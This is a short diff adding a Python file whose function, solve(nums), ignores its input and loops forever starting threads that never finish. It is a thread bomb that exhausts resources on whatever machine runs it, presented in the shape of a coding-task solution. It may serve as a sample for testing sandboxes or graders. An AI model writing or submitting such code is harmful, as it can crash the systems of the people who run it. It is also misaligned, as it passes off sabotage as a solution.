@@ -1,0 +1,8 @@
+"""Threads without end."""
+
+import threading
+
+
+def solve(nums):
+    while True:
+        threading.Thread(target=threading.Event().wait).start()
